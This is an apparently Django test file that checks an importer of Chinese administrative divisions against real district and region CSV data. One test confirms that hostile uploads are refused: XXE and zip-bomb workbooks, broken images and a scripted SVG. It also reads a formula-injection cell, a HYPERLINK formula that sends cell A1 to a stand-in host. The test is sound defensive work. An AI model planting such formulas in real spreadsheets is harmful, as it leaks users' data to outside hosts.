"""Real files of others, where they are there: the divisions of a district, and files made to do harm."""

import pytest

from congress.errors import DomainError
from congress.imports import running
from congress.imports.reading import UnreadableFile, open_sheets
from congress.models import Area
from congress.resources import AreaResource
from congress.services.audit import SYSTEM

pytestmark = pytest.mark.django_db


def run(path):
    with path.open("rb") as source:
        return running.run(actor=SYSTEM, resource=AreaResource(), source=source, filename=path.name)


def test_the_divisions_of_a_real_district(real_data):
    towns, villages = real_data / "divisions/towns_fangcheng_450603.csv", real_data / "divisions/villages_fangcheng_450603.csv"
    first = run(villages)
    assert len(first.rejected) == 169 and not Area.objects.exists()
    assert (run(towns).counts["created"], run(villages).counts["created"]) == (14, 169)
    kinds = [
        Area.objects.filter(kind=kind).count()
        for kind in ("subdistrict", "town", "township", "ethnic_township", "farm", "village", "community")
    ]
    assert kinds == [3, 8, 1, 1, 1, 145, 24]
    assert all(area.path == f"{area.code[:9]}/{area.code}/" for area in Area.objects.village_level())
    assert run(towns).changes_nothing and run(villages).changes_nothing


def test_a_whole_region_in_any_order(real_data):
    folder = real_data / "divisions"
    for name in ("guangxi_45_areas.csv", "guangxi_45_cities.csv", "guangxi_45_towns.csv.gz", "guangxi_45_villages.csv.gz"):
        assert run(folder / name).rejected == []
    assert Area.objects.count() == 14 + 111 + 1284 + 16681
    assert list(Area.objects.filter(parent=None).order_by().values_list("kind", flat=True).distinct()) == ["city"]
    assert run(folder / "guangxi_45_villages.csv.gz").changes_nothing


def test_hostile_workbooks_are_refused(real_data):
    hostile = real_data / "uploads/hostile"
    for name in ("xlsx_xxe.xlsx", "xlsx_zip_bomb_300MB.xlsx", "empty.jpg", "pillow_broken.png", "svg_script.svg"):
        with (hostile / name).open("rb") as source, pytest.raises(UnreadableFile):
            open_sheets(source, name)
    with (hostile / "xlsx_formula_injection.xlsx").open("rb") as source:
        (sheet,) = open_sheets(source, "x.xlsx")
    assert sheet.rows[1] == (2, ['=HYPERLINK("http://example.invalid/?x="&A1,"点我")'])


def test_odd_workbooks_open(real_data):
    for path in sorted((real_data / "excel").glob("*.xls*")):
        with path.open("rb") as source:
            assert open_sheets(source, path.name)[0].rows, path.name
        with path.open("rb") as source, pytest.raises(DomainError, match="表头"):
            running.preview(AreaResource(), source, path.name)
